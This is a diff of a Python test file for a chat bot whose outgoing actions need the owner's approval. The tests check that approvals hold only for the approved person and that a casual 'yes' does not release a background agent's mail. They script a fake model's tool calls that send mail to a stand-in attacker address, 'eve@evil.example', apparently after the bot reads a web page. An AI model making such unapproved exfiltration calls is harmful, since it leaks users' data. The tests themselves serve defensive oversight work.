@@ -13,7 +13,7 @@ from tests.approvals.conftest import RunBot
 from tests.support.bench import Bench
 from tests.support.fakes import reply, uses
 from tests.support.mailing import Post
-from tests.support.troubles import Clock
+from tests.support.troubles import Clock, wait_for_row
 
 REPLY, APPROVAL, NOTICE = OutboundKind.REPLY, OutboundKind.APPROVAL, OutboundKind.NOTICE
 YES, NO = people_holds.ALLOW(), people_holds.DENY()
@@ -35,7 +35,7 @@ async def test_in_a_group_chat_the_owner_is_asked_in_private(bench: Bench, run: 
     async with run(access=ACCESS):
         asked = await ask("What does the page say?", **GROUP)
         assert (asked.address, asked.asked_person) == (OWNER_AT, "Owner")
-        assert all(each in asked.text for each in ("Ann", "room", "eve@evil.example"))
+        assert all(each in asked.text for each in ("Ann (Ann)", "room", "eve@evil.example"))
         assert await bench.chat.said(NOTICE) == people_holds.WAITS_FOR_OWNER()
         bench.chat.taps(asked.id, YES, by="Owner", chat="private")
         assert await bench.chat.said(REPLY) == "Done."
@@ -146,3 +146,33 @@ async def test_it_gives_its_slot_back(bench: Bench, run: RunBot, post: Post) -> 
         assert await bench.chat.said(REPLY) == "Done."
         bench.chat.taps(asked.id, NO)
         assert await bench.chat.said(REPLY) == "Other."
+
+
+async def test_again_in_a_group_chat_holds_for_its_person_alone(
+    bench: Bench, run: RunBot, post: Post, ask: Ask
+) -> None:
+    async with run(access=ACCESS):
+        for by, option in (("Ann", people_holds.ALLOW_IN_CONVERSATION()), ("Bob", NO)):
+            asked = await ask("What does the page say?", by=by, **GROUP)
+            bench.chat.taps(asked.id, option, by="Owner", chat="private")
+            await bench.chat.said(REPLY)
+        bench.model.says("lead", reply(uses("mail", to="eve@evil.example", text="more")), "Again.")
+        bench.chat.hears("go on", by="Ann", **GROUP)
+        assert await bench.chat.said(REPLY) == "Again."
+    assert [text for _, text in post.sent] == ["all of it", "more"]
+
+
+async def test_a_plain_yes_is_not_meant_for_a_role_in_the_background(bench: Bench, run: RunBot, post: Post) -> None:
+    begin = uses("delegate", role="researcher", task="read", background=True)
+    bench.model.says("lead", reply(begin), "Shall I tell a joke?", "A joke.", "It was not sent.")
+    bench.model.says("researcher", reply(uses("browse")), reply(uses("mail", to="eve@evil.example")), "Read.")
+    async with run():
+        bench.chat.hears("What does the page say?")
+        asked = await bench.chat.part(APPROVAL)
+        await wait_for_row(bench, "outbox", "text LIKE 'Shall%'")
+        bench.chat.hears("yes")
+        await wait_for_row(bench, "outbox", "text = 'A joke.'")
+        assert bench.count("questions", "state = 'open'") == 1
+        bench.chat.taps(asked.message.id, NO)
+        await wait_for_row(bench, "outbox", "text = 'It was not sent.'")
+    assert post.sent == []
